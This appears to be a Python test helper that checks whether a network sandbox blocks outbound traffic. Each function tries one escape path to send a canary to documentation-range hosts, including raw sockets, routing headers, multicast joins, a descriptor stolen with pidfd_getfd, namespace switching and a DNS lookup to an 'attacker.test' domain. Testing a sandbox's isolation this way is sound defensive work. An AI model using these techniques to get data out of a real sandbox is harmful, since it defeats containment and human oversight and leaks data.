"""One attempt to get bytes past the jail: escape.py MECHANISM CANARY [ARGUMENTS].

Prints the name of the errno that stopped it, or "sent". What it prints is only for the reader of a failed test: the
lab's wire decides. Run without a jail, each mechanism must put the canary on the wire.
"""

import array
import ctypes
import errno
import os
import socket
import struct
import sys

FORBIDDEN4, FORBIDDEN6 = "198.51.100.3", "2001:db8:99::3"
RESOLVER4, RESOLVER6 = "198.51.100.2", "2001:db8:99::2"
PORT = 9999
CANARY = sys.argv[2].encode() if len(sys.argv) > 2 else b""
ARGUMENTS = sys.argv[3:]
TCP_FASTOPEN_CONNECT, TCP_FASTOPEN_NO_COOKIE, IPPROTO_MPTCP, IPPROTO_UDPLITE = 30, 34, 262, 136
LIBC = ctypes.CDLL(None, use_errno=True)


def call(function, *arguments):
    if function(*arguments) < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))


def stream(family, address, protocol=0, port=PORT):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(5)
    s.connect((address, port))
    # With a line's end, or the proxy waits for the rest of what may become a request.
    s.sendall(CANARY + b"\r\n")
    s.settimeout(1)
    s.recv(1)


def tcp4():
    stream(socket.AF_INET, FORBIDDEN4)


def tcp6():
    stream(socket.AF_INET6, FORBIDDEN6)


def tcp_mapped():
    stream(socket.AF_INET6, "::ffff:" + FORBIDDEN4)


def tcp_to_the_allowed_server():
    stream(socket.AF_INET, RESOLVER4)


def tcp_on_port_443():
    stream(socket.AF_INET, FORBIDDEN4, port=443)


def tcp_where_the_server_speaks_first():
    stream(socket.AF_INET, FORBIDDEN4, port=22)


def tcp_on_port_53():
    stream(socket.AF_INET, RESOLVER4, port=53)


def tcp_on_port_853():
    stream(socket.AF_INET, FORBIDDEN4, port=853)


def mptcp():
    stream(socket.AF_INET, FORBIDDEN4, IPPROTO_MPTCP)


def mptcp6():
    stream(socket.AF_INET6, FORBIDDEN6, IPPROTO_MPTCP)


def patient(s):
    # Not settimeout(): that makes the socket non-blocking, and a fast open without a cookie then sends nothing.
    for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
        s.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", 5, 0))
    return s


def fast_open(prepare=lambda s: None):
    s = patient(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
    prepare(s)
    s.sendto(CANARY + b"\r\n", socket.MSG_FASTOPEN, (FORBIDDEN4, PORT))
    s.recv(1)


def fast_open_without_cookie():
    fast_open(lambda s: s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1))


def fast_open_by_connect():
    s = patient(socket.socket(socket.AF_INET, socket.SOCK_STREAM))
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
    s.connect((FORBIDDEN4, PORT))
    s.sendall(CANARY + b"\r\n")
    s.recv(1)


def a_device():
    names = [name for _, name in socket.if_nameindex() if name != "lo"]
    return (names or ["lo"])[0].encode()


def bound_to_a_device():
    def prepare(s):
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a_device())

    fast_open(prepare)


def datagram(family, address, port=PORT, protocol=0):
    socket.socket(family, socket.SOCK_DGRAM, protocol).sendto(CANARY, (address, port))


def udp4():
    datagram(socket.AF_INET, FORBIDDEN4)


def udp6():
    datagram(socket.AF_INET6, FORBIDDEN6)


def udp_mapped():
    datagram(socket.AF_INET6, "::ffff:" + FORBIDDEN4)


def udp_connected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((FORBIDDEN4, PORT))
    s.send(CANARY)


def udp_reconnected():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((RESOLVER4, 53))
    nowhere = struct.pack("=H14x", socket.AF_UNSPEC)
    call(LIBC.connect, s.fileno(), nowhere, len(nowhere))
    s.sendto(CANARY, (FORBIDDEN4, PORT))


def udp_in_pieces():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(CANARY, socket.MSG_MORE, (FORBIDDEN4, PORT))
    s.sendto(b"!", (FORBIDDEN4, PORT))


def udp_message():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendmsg([CANARY], [], 0, (FORBIDDEN4, PORT))


def udp_on_port_443():
    datagram(socket.AF_INET, FORBIDDEN4, 443)


def udp_on_port_53_of_any_server():
    datagram(socket.AF_INET, FORBIDDEN4, 53)


def udp_on_port_53_of_any_server6():
    datagram(socket.AF_INET6, FORBIDDEN6, 53)


def udp_on_port_53_of_the_resolver():
    datagram(socket.AF_INET, RESOLVER4, 53)


def udp_broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(CANARY, ("198.51.100.255", PORT))


def udp_multicast():
    datagram(socket.AF_INET, "239.1.2.3")


def udplite():
    datagram(socket.AF_INET, FORBIDDEN4, protocol=IPPROTO_UDPLITE)


def udplite_on_port_53():
    datagram(socket.AF_INET, FORBIDDEN4, 53, IPPROTO_UDPLITE)


def ping():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + CANARY, (FORBIDDEN4, 0))


def ping6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, 1) + CANARY, (FORBIDDEN6, 0))


def raw():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)
    s.sendto(CANARY, (FORBIDDEN4, 0))


def raw_header():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    udp = struct.pack("!HHHH", 4444, 53, 8 + len(CANARY), 0) + CANARY
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                     socket.inet_aton("198.51.100.1"), socket.inet_aton(FORBIDDEN4))
    s.sendto(ip + udp, (FORBIDDEN4, 0))


def packet():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    s.bind((a_device().decode(), 0x88b5))
    s.send(b"\xff" * 12 + b"\x88\xb5" + CANARY)


def routing_header(kind, prepare=lambda s: None):
    # A segment routing header: the address hooks see the last segment, the packet goes to the first.
    segments = socket.inet_pton(socket.AF_INET6, RESOLVER6) + socket.inet_pton(socket.AF_INET6, FORBIDDEN6)
    header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
    s = patient(socket.socket(socket.AF_INET6, kind))
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
    prepare(s)
    return s


def udp_by_routing_header():
    routing_header(socket.SOCK_DGRAM).sendto(CANARY, (RESOLVER6, 53))


def tcp_by_routing_header():
    prepare = lambda s: s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    routing_header(socket.SOCK_STREAM, prepare).sendto(CANARY, socket.MSG_FASTOPEN, (RESOLVER6, PORT))


def ip_options():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    # Loose source route (RFC 791 section 3.1) by way of the forbidden server.
    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(FORBIDDEN4) + b"\0")
    s.sendto(CANARY, (RESOLVER4, 53))


def group4():
    return bytes([239]) + CANARY[:3]


def multicast_join():
    # The kernel itself sends the report, with an address of our choice in it; no hook on addresses sees that.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group4() + socket.inet_aton("0.0.0.0"))
    input()


def multicast_join6():
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    index = socket.if_nametoindex(a_device().decode())
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, b"\xff\x05" + CANARY[:14] + struct.pack("=I", index))
    input()


def inherited():
    for number in map(int, ARGUMENTS):
        s = socket.socket(fileno=number)
        s.settimeout(5)
        if s.type == socket.SOCK_STREAM:
            s.sendall(CANARY)
        else:
            s.sendto(CANARY, (FORBIDDEN4, PORT))


def passed_descriptor():
    address = "\0" + ARGUMENTS[0][1:] if ARGUMENTS[0].startswith("@") else ARGUMENTS[0]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(address)
    space = socket.CMSG_SPACE(array.array("i", [0]).itemsize)
    _, control, _, _ = s.recvmsg(1, space)
    number = array.array("i", control[0][2])[0]
    socket.socket(fileno=number).sendto(CANARY, (FORBIDDEN4, PORT))


def stolen_descriptor():
    victim, number = map(int, ARGUMENTS)
    pidfd = LIBC.syscall(434, victim, 0)
    if pidfd < 0:
        raise OSError(ctypes.get_errno(), "pidfd_open")
    copy = LIBC.syscall(438, pidfd, number, 0)
    if copy < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    socket.socket(fileno=copy).sendto(CANARY, (FORBIDDEN4, PORT))


def other_namespace():
    with open("/proc/%s/ns/net" % ARGUMENTS[0]) as namespace:
        call(LIBC.setns, namespace.fileno(), 0)
    udp4()


def nested_namespaces():
    CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
    call(LIBC.unshare, CLONE_NEWUSER | CLONE_NEWNET)
    os.system("ip link set lo up 2>/dev/null; ip route add default dev lo 2>/dev/null")
    udp4()


def dns_question():
    socket.gethostbyname(sys.argv[2] + ".attacker.test")


try:
    print("trying", flush=True)
    globals()[sys.argv[1]]()
    print("sent")
except OSError as error:
    print(errno.errorcode.get(error.errno, error))
except EOFError:
    print("done")
